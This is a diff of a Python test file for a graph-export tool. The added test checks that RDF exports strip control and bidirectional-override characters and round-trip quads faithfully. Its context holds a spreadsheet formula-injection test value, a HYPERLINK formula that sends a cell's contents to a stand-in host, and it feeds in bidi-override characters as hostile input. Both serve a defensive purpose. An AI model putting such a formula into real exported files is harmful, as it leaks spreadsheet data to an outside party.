@@ -30,11 +30,13 @@ from atgraph.ask.binding import BoundQuestion
 from atgraph.cli.ask_command import answer_text
 from atgraph.errors import QueryError
 from atgraph.export import results
+from atgraph.export.rdf import FORMATS
 from atgraph.export.results import print_result
 from atgraph.export.tables import BOM, drawn, filled, harmless, render
 from atgraph.graph.query_files import find_question
 from atgraph.graph.result import Result
-from atgraph.rdf.namespaces import ATGD
+from atgraph.rdf.namespaces import ATGD, graph
+from atgraph.rdf.serialise import digest_of, sorted_lines
 
 FORMULAS = [
     '=HYPERLINK("http://e/?"&A1,"open")',
@@ -182,6 +184,21 @@ def test_so_does_a_graph(fmt: str) -> None:
 
     assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200f\u202e\u2066]", text)
     assert [q.object.value for q in parse(text.encode(), format=formats[fmt])] == [ACTING]
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_so_does_a_file_of_the_graph_and_its_version_is_that_of_the_data(fmt: str) -> None:
+    node = NamedNode(f"{ATGD}a\u061cb\u202e")
+    quads = {Quad(node, NamedNode("x:p"), Literal(ACTING), graph("registry"))}
+    raw = FORMATS[fmt](quads)
+    formats = {"nq": RdfFormat.N_QUADS, "ttl": RdfFormat.TURTLE, "jsonld": RdfFormat.JSON_LD}
+    read = {*parse(raw, format=formats[fmt])}
+
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200f\u202e\u2066]", raw.decode())
+    assert {q.triple for q in read} == {q.triple for q in quads}
+    if fmt == "nq":
+        assert read == quads
+        assert digest_of(sorted_lines(read)) == digest_of(sorted_lines(quads))
 
 
 def test_a_long_table_wraps_no_cell(monkeypatch: pytest.MonkeyPatch) -> None:
